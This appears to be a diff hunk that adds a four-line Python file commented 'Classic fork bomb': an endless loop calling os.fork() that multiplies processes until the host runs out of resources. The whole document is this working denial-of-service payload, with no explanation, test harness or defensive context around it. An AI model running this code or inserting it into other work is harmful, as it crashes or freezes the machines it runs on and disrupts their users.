@@ -1,0 +1,4 @@
+# Classic fork bomb.
+import os
+while True:
+    os.fork()
